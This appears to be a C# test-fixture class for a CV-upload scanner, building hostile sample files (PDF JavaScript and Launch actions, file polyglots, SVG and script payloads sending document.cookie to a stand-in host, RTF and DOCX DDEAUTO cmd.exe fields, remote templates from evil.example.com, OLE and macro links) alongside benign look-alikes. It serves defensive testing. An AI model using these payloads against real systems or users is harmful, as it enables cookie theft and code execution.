using System.Globalization;
using System.Text;

namespace ChatAdvisor.Core.Tests.Cvs;

/// <summary>
/// The upload attack corpus: CV files carrying active content, each built in code from <see cref="CvSamples"/>, and
/// look-alike files that must still pass (links, compressed objects, hyperlink fields, skills named JavaScript).
/// </summary>
internal static class HostileCvSamples
{
    private const string RelationshipTypes = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    public static byte[] PdfOpenActionJavaScript() =>
        CvSamples.Pdf(extraCatalogEntries: "/OpenAction 6 0 R ", extraObjects: @"<< /Type /Action /S /JavaScript /JS (app.alert\('Hello'\);) >>");

    /// <summary><c>/J#61vaScript</c> and <c>/#4A#53</c> are <c>/JavaScript</c> and <c>/JS</c> to every reader.</summary>
    public static byte[] PdfObfuscatedJavaScript() =>
        CvSamples.Pdf(extraCatalogEntries: "/OpenAction << /S /J#61vaScript /#4A#53 (app.alert(1)) >> ");

    public static byte[] PdfJavaScriptInObjectStream() =>
        CvSamples.PdfWithObjectStream("/Names << /JavaScript 8 0 R >> ", ["<< /Names [(init) 9 0 R] >>", "<< /S /JavaScript /JS (this.exportDataObject({cName: 'x', nLaunch: 2});) >>"]);

    public static byte[] PdfLaunch() =>
        CvSamples.Pdf(extraCatalogEntries: "/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> ");

    public static byte[] PdfEmbeddedFile() =>
        CvSamples.Pdf(
            extraCatalogEntries: "/Names << /EmbeddedFiles << /Names [(notes.txt) 6 0 R] >> >> ",
            extraObjects: ["<< /Type /Filespec /F (notes.txt) /EF << /F 7 0 R >> >>", CvSamples.PdfStream("/Type /EmbeddedFile", "hello"u8.ToArray())]);

    public static byte[] PdfFileAttachmentAnnotation() =>
        CvSamples.Pdf(pageEntries: "/Annots [6 0 R] ", extraObjects: "<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 10 10] /FS (payload.exe) >>");

    public static byte[] PdfXfa() =>
        CvSamples.Pdf(extraCatalogEntries: "/AcroForm << /Fields [] /XFA 6 0 R >> ", extraObjects: CvSamples.PdfStream("", "<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"/>"u8.ToArray()));

    public static byte[] PdfSubmitForm() =>
        CvSamples.Pdf(pageEntries: "/Annots [6 0 R] ", extraObjects: "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /SubmitForm /F << /FS /URL /F (https://example.com/collect) >> >> >>");

    /// <summary>A page that opens a web address by itself when shown, through an indirect /URI action.</summary>
    public static byte[] PdfAutomaticUri() =>
        CvSamples.Pdf(pageEntries: "/AA << /O 6 0 R >> ", extraObjects: "<< /S /URI /URI (https://tracker.example.com/opened) >>");

    public static byte[] PdfJavaScriptLink() =>
        CvSamples.Pdf(pageEntries: "/Annots [6 0 R] ", extraObjects: @"<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /A << /S /URI /URI (java\163cript:alert\(1\)) >> >>");

    public static byte[] PdfObjectStreamWithUnknownFilter() =>
        CvSamples.PdfWithObjectStream(encode: AsciiHex, filterEntries: "/Filter /ASCIIHexDecode");

    public static byte[] PdfObjectStreamThatDoesNotInflate() =>
        CvSamples.PdfWithObjectStream(encode: text => [0x78, 0x9C, 0xFF, 0xFF, .. text]); // a reserved block type

    /// <summary>A PDF followed by a ZIP: PDF readers and unzip both open it.</summary>
    public static byte[] PdfZipPolyglot() => [.. CvSamples.Pdf(), .. CvSamples.Zip([("run.js", "WScript.Echo(1)"u8.ToArray())])];

    public static byte[] PdfWithHtmlAfterEof() => [.. CvSamples.Pdf(), .. "<html><body><script>alert(document.cookie)</script></body></html>\n"u8.ToArray()];

    /// <summary>A DOCX whose first part is a stored PDF, so a PDF reader finds <c>%PDF-</c> within its first kilobyte.</summary>
    public static byte[] DocxPdfPolyglot() =>
        CvSamples.Zip([("a.pdf", CvSamples.Pdf()), .. DocxParts()], "a.pdf");

    /// <summary>An HTML page with a PDF after it, more than a kilobyte in: a browser renders the page.</summary>
    public static byte[] HtmlBeforePdf() =>
        [.. CvSamples.Utf8("<html><body><script>alert(1)</script>" + new string(' ', 1100) + "</body></html>\n"), .. CvSamples.Pdf()];

    public static byte[] Html() => CvSamples.Utf8("<!DOCTYPE html>\n<html><head><title>CV</title></head><body><h1>Jane Doe</h1></body></html>\n");

    public static byte[] Svg() => CvSamples.Utf8("""<svg xmlns="http://www.w3.org/2000/svg" onload="fetch('https://example.com/?c='+document.cookie)"><text>Jane Doe</text></svg>""");

    public static byte[] Xml() => CvSamples.Utf8("""<?xml version="1.0" encoding="UTF-8"?><cv><name>Jane Doe</name></cv>""");

    public static byte[] TextWithScript() => CvSamples.Utf8("Jane Doe\nSoftware engineer\n<script>document.location='https://example.com/'+document.cookie</script>\n");

    public static byte[] TextWithEventHandler() => CvSamples.Utf8("Jane Doe\nPhoto: <img src=x onerror=alert(1)>\n");

    public static byte[] Utf16Html() => [0xFF, 0xFE, .. Encoding.Unicode.GetBytes("<html><body onload=alert(1)>Jane Doe</body></html>")];

    public static byte[] RtfObject() =>
        CvSamples.Rtf(@"Jane Doe\par {\object\objemb\objw100\objh100{\*\objclass Package}{\*\objdata 01050000020000000800000050616b6167650000}{\result {\pict\wmetafile8 0100}}}\par ");

    public static byte[] RtfHiddenObjectData() => CvSamples.Rtf(@"Jane Doe\par {\*\objdata 0105000002000000}\par ");

    /// <summary>Word opens <c>{\rt</c> as RTF too, so the missing <c>f</c> must not let an object through as text.</summary>
    public static byte[] RtfShortHeaderObject() => CvSamples.Utf8(@"{\rt Jane Doe {\object\objautlink{\*\objdata 0105}}}");

    public static byte[] RtfRemotePicture() =>
        CvSamples.Rtf(@"{\field{\*\fldinst { INCLUDEPICTURE ""https://tracker.example.com/p.png"" \\* MERGEFORMATINET \\d }}{\fldrslt }}\par ");

    /// <summary>The keyword split over groups and escaped, the path a network share.</summary>
    public static byte[] RtfObfuscatedRemoteInclude() =>
        CvSamples.Rtf(@"{\field{\*\fldinst {\rtlch IN}{CLUDE\'54EXT} ""\\\\\\\\evil.example.com\\\\share\\\\cv.docx""}{\fldrslt }}\par ");

    public static byte[] RtfDdeAuto() =>
        CvSamples.Rtf(@"{\field{\*\fldinst \'44\'44EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ""/k calc.exe""}{\fldrslt x}}\par ");

    public static byte[] RtfRemoteTemplate() => CvSamples.Rtf(@"{\*\template https://example.com/evil.dotm}Jane Doe\par ");

    public static byte[] DocxWithOleObject() =>
        CvSamples.Docx(CvSamples.WordMain, ("word/embeddings/oleObject1.bin", CompoundFileWriter.Build(new CompoundFileWriter.Item("\u0001Ole10Native", new byte[64]))));

    /// <summary>An OLE compound file renamed to look like a picture.</summary>
    public static byte[] DocxWithDisguisedOleObject() =>
        CvSamples.Docx(CvSamples.WordMain, ("word/media/image1.png", CompoundFileWriter.Build(new CompoundFileWriter.Item("\u0001Ole", new byte[64]))));

    public static byte[] DocxWithActiveX() =>
        CvSamples.Docx(CvSamples.WordMain, ("word/activeX/activeX1.xml", CvSamples.Utf8("""<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>""")));

    public static byte[] DocxWithRemoteTemplate() => DocxWithSettingsRelationship("attachedTemplate", "https://example.com/templates/cv.dotm");

    public static byte[] DocxWithExternalOleLink() =>
        CvSamples.Docx(CvSamples.WordMain, ("word/_rels/document.xml.rels", Relationships(("oleObject", "file:///C:/data/sheet.xlsx"))));

    public static byte[] DocxWithDdeField() =>
        CvSamples.Docx(CvSamples.WordMain, ("word/header1.xml", WordPart("""
            <w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DD</w:instrText></w:r>
            <w:r><w:instrText>EAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>
            <w:r><w:t>x</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>
            """)));

    public static byte[] DocxWithRemotePictureField() =>
        CvSamples.Docx(CvSamples.WordMain, ("word/footer1.xml", WordPart("""<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "http://tracker.example.com/p.png" \d '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>""")));

    public static byte[] DocxWithTrailingHtml() => [.. CvSamples.Docx(), .. "<script>alert(1)</script>"u8.ToArray()];

    public static byte[] OdtWithOleObject() => CvSamples.Odt("", ("Object 2", CompoundFileWriter.Build(new CompoundFileWriter.Item("\u0001Ole", new byte[64]))));

    public static byte[] OdtWithMacroLink() =>
        CvSamples.Odt("", ("styles.xml", CvSamples.Utf8("""
            <office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">
              <office:master-styles><text:p><text:a xlink:href="vnd.sun.star.script:Standard.Module1.Run?language=Basic&amp;location=application">CV</text:a></text:p></office:master-styles>
            </office:document-styles>
            """)));

    public static byte[] OdtWithEventListener() =>
        CvSamples.Odt("", ("settings.xml", CvSamples.Utf8("""
            <office:document-settings xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">
              <office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.Module1.Run"/></office:event-listeners>
            </office:document-settings>
            """)));

    public static byte[] DocWithEmbeddedObject() =>
        CompoundFileWriter.Build(new("WordDocument", CompoundFileWriter.WordDocumentStream()), new("1Table", new byte[10]), new("ObjectPool"), new("_1234567890"), new("\u0003ObjInfo", new byte[6]));

    // Benign look-alikes.

    public static byte[] PdfWithLink() =>
        CvSamples.Pdf(pageEntries: "/Annots [6 0 R] ", extraObjects: "<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /Border [0 0 0] /A << /S /URI /URI (https://example.com/jane-doe) >> >>");

    public static byte[] PdfWithHarmlessObjectStream() =>
        CvSamples.PdfWithObjectStream("/OpenAction [3 0 R /Fit] /Outlines 9 0 R ", ["<< /Title (Node/JS and /JavaScript developer) /Parent 9 0 R /Dest [3 0 R /Fit] >>", "<< /Type /Outlines /First 8 0 R /Last 8 0 R /Count 1 >>"]);

    /// <summary>"/JS" and "/Launch" inside strings are words, not names; opening at page one is not an action.</summary>
    public static byte[] PdfWithScaryWordsInStrings() =>
        CvSamples.Pdf(extraCatalogEntries: "/OpenAction [3 0 R /XYZ 0 792 0] /Lang (en) ", pageEntries: "/Annots [6 0 R] ",
            extraObjects: @"<< /Type /Annot /Subtype /Text /Rect [0 0 10 10] /Contents (Skills: React/JS, /Launch of <html> sites \(2019\)) >>");

    public static byte[] RtfWithHyperlink() =>
        CvSamples.Rtf(@"Portfolio: {\field{\*\fldinst {HYPERLINK ""https://example.com/jane-doe""}}{\fldrslt {\ul Jane Doe}}}\par ");

    public static byte[] TextNamingSkills() =>
        CvSamples.Utf8("Jane Doe <jane@example.com>\nSkills: JavaScript, TypeScript, HTML, CSS, SVG and XML\nJavaScript: React, Node.js\nI <3 clean code; remember that a < b and b > c.\n");

    public static byte[] DocxWithLocalTemplateAndLinks() =>
        CvSamples.Docx(CvSamples.WordMain,
            ("word/_rels/settings.xml.rels", Relationships(("attachedTemplate", @"file:///C:\Users\jane\AppData\Roaming\Microsoft\Templates\Modern%20CV.dotx"))),
            ("word/_rels/document.xml.rels", Relationships(("hyperlink", "https://example.com/jane-doe"))),
            ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", CvSamples.Zip([("[Content_Types].xml", CvSamples.Utf8("<Types/>"))])),
            ("word/footer1.xml", WordPart("""<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>""")));

    public static byte[] OdtWithChart() =>
        CvSamples.Odt("", ("Object 1/content.xml", CvSamples.Utf8("""<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" office:version="1.3"><office:body><office:chart/></office:body></office:document-content>""")));

    private static byte[] DocxWithSettingsRelationship(string type, string target) =>
        CvSamples.Docx(CvSamples.WordMain, ("word/_rels/settings.xml.rels", Relationships((type, target))));

    private static byte[] Relationships(params (string Type, string Target)[] relationships)
    {
        var xml = new StringBuilder("""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">""");
        foreach (var (type, target) in relationships)
        {
            xml.Append(CultureInfo.InvariantCulture, $"""<Relationship Id="rId{xml.Length}" Type="{RelationshipTypes}/{type}" Target="{target}" TargetMode="External"/>""");
        }
        return CvSamples.Utf8(xml.Append("</Relationships>").ToString());
    }

    private static byte[] WordPart(string body) =>
        CvSamples.Utf8($"""<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">{body}</w:hdr>""");

    private static (string Name, byte[] Content)[] DocxParts()
    {
        using var archive = new System.IO.Compression.ZipArchive(new MemoryStream(CvSamples.Docx()));
        return [.. archive.Entries.Select(entry =>
        {
            using var content = new MemoryStream();
            using (var stream = entry.Open())
            {
                stream.CopyTo(content);
            }
            return (entry.FullName, content.ToArray());
        })];
    }

    private static byte[] AsciiHex(byte[] data) => Encoding.ASCII.GetBytes(Convert.ToHexString(data) + ">");
}
